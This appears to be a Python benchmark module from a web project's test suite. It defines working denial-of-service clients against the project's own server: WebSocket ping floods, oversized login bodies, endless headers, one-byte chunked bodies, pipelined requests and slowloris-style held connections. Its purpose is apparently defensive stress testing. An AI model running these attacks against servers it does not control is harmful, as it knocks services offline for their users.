"""Clients that try to keep a web process from serving others.

Each attack runs in a process of its own (`python -m benchmarks.stalls.attacks`), and repeats itself
when the server cuts it off.
"""

import asyncio
import sys
import time
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass
from urllib.parse import urlsplit

from tests.security.floods import FLOODS, flood

BLOCK = 64 * 1024  # bytes of one write
MIB = 1024 * 1024
OPEN = 900  # connections that are held open; fewer than a process may have files
RETRY = 0.01  # seconds


@dataclass(frozen=True, slots=True)
class Target:
    """The server, and the credentials of an ordinary account."""

    url: str
    token: str
    seconds: float

    @property
    def ends(self) -> float:
        return time.monotonic() + self.seconds


Attack = Callable[[Target], Awaitable[None]]


def _frames(unit: bytes, *, signed_in: bool = False, reads: bool = True) -> Attack:
    """Repeat WebSocket frames on one socket."""

    async def attack(target: Target) -> None:
        path = f"/ws/chat/?token={target.token}" if signed_in else "/ws/chat/"
        ends = target.ends
        while (left := ends - time.monotonic()) > 0:
            try:
                await flood(target.url, path, unit, seconds=left, reads=reads)
            except (OSError, asyncio.IncompleteReadError):
                await asyncio.sleep(RETRY)

    return attack


def _bytes(head: bytes, unit: bytes, size: int) -> Attack:
    """Send a beginning, then `size` bytes of a repeated unit, on one connection."""
    block = unit * max(1, BLOCK // len(unit))

    async def attack(target: Target) -> None:
        ends = target.ends
        while (left := ends - time.monotonic()) > 0:
            try:
                async with asyncio.timeout(left):
                    await _send(target.url, head, block, size)
            except (OSError, TimeoutError):
                await asyncio.sleep(RETRY)

    return attack


async def _send(url: str, head: bytes, block: bytes, size: int) -> None:
    reader, writer = await _connect(url)
    try:
        writer.write(head)
        for _ in range(size // len(block)):
            writer.write(block)
            await writer.drain()
        await reader.read()
    finally:
        writer.transport.abort()


def _held(beginning: bytes) -> Attack:
    """Open many connections, send a beginning on each, and wait."""

    async def attack(target: Target) -> None:
        ends = target.ends
        opened = []
        for _ in range(OPEN):
            try:
                async with asyncio.timeout(max(0.01, ends - time.monotonic())):
                    _, writer = await _connect(target.url)
            except (OSError, TimeoutError):
                continue
            writer.write(beginning)
            opened.append(writer)
        await asyncio.sleep(max(0.0, ends - time.monotonic()))
        for writer in opened:
            writer.transport.abort()

    return attack


async def _connect(url: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    where = urlsplit(url)
    return await asyncio.open_connection(where.hostname, where.port)


async def _nothing(target: Target) -> None:
    await asyncio.sleep(target.seconds)


_HOST = b"Host: x\r\n"
_LOGIN = b"POST /api/auth/login/ HTTP/1.1\r\n" + _HOST + b"Content-Type: application/json\r\n"
_PING = FLOODS["pings of six bytes"]

ATTACKS: Mapping[str, Attack] = {
    "no attack": _nothing,
    "6-byte pings, not signed in": _frames(_PING),
    "6-byte pings, signed in": _frames(_PING, signed_in=True),
    "unsolicited pongs": _frames(FLOODS["unsolicited pongs"]),
    "empty fragments": _frames(FLOODS["empty fragments"]),
    "pings, answers never read": _frames(FLOODS["large pings"], signed_in=True, reads=False),
    "500 MB to the sign-in": _bytes(
        _LOGIN + b"Content-Length: 500000000\r\n\r\n", b"x" * BLOCK, 500_000_000
    ),
    "a header without end": _bytes(b"GET / HTTP/1.1\r\nX: ", b"a" * BLOCK, 500 * MIB),
    "100 MB of headers": _bytes(b"GET / HTTP/1.1\r\n", b"a: b\r\n", 100 * MIB),
    "chunks of one byte": _bytes(
        _LOGIN + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n", 100 * MIB
    ),
    "pipelined requests": _bytes(b"", b"GET /nowhere HTTP/1.1\r\n" + _HOST + b"\r\n", 100 * MIB),
    f"{OPEN} half bodies": _held(_LOGIN + b"Content-Length: 1000\r\n\r\n{"),
    f"{OPEN} idle connections": _held(b"G"),
}


if __name__ == "__main__":
    name, url, token, seconds = sys.argv[1:]
    asyncio.run(ATTACKS[name](Target(url, token, float(seconds))))  # type: ignore[arg-type]
